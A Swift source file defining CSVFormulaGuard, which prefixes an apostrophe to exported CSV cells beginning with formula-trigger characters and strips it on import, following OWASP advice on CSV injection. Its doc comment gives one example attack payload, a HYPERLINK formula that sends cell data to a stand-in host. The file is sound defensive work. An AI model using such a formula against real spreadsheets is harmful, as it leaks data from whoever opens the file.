/// Keeps exported CSV cells from running as spreadsheet formulas (CSV injection), and undoes
/// exactly that on import so that an export re-imports unchanged.
///
/// Spreadsheets treat a cell that begins with `=`, `+`, `-`, `@`, tab or CR as a formula, so a
/// customer named `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link
/// in whoever opens the export. Following OWASP's advice on CSV injection, such a cell is
/// written with a leading `'`, which spreadsheets show as text.
///
/// The rule is made reversible by applying it also to cells that already begin with one or more
/// `'` before such a character: export adds one `'` to every cell matching `'*[=+\-@\t\r]…`,
/// import removes one `'` from every cell matching `'+[=+\-@\t\r]…`. So `=1` exports as `'=1`
/// and `'=1` as `''=1`, and each imports back as it was; a cell like `'note` is left alone.
///
///     CSVFormulaGuard.neutralized("=1+1")   // "'=1+1"
///     CSVFormulaGuard.restored("'=1+1")     // "=1+1"
enum CSVFormulaGuard {
    /// The first bytes that make a spreadsheet evaluate a cell.
    private static func isTrigger(_ byte: UInt8) -> Bool {
        switch byte {
        case UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D: true
        default: false
        }
    }

    /// Whether `cell` is `'`×`quotes` followed by a trigger, for some `quotes` ≥ `minimumQuotes`.
    private static func isGuardable(_ cell: String, minimumQuotes: Int) -> Bool {
        var cell = cell
        return cell.withUTF8 { isGuardable($0, minimumQuotes: minimumQuotes) }
    }

    private static func isGuardable(_ cell: UnsafeBufferPointer<UInt8>, minimumQuotes: Int) -> Bool {
        var quotes = 0
        for byte in cell {
            if byte == UInt8(ascii: "'") {
                quotes += 1
                continue
            }
            return quotes >= minimumQuotes && isTrigger(byte)
        }
        return false
    }

    /// Whether the cell is written after a `'` (``neutralized(_:)``, for bytes read in place).
    static func needsPrefix(_ cell: UnsafeBufferPointer<UInt8>) -> Bool {
        isGuardable(cell, minimumQuotes: 0)
    }

    /// The cell as it is safe to write into a CSV file.
    static func neutralized(_ cell: String) -> String {
        isGuardable(cell, minimumQuotes: 0) ? "'" + cell : cell
    }

    /// The value an exported cell stood for.
    static func restored(_ cell: String) -> String {
        isGuardable(cell, minimumQuotes: 1) ? String(cell.dropFirst()) : cell
    }
}
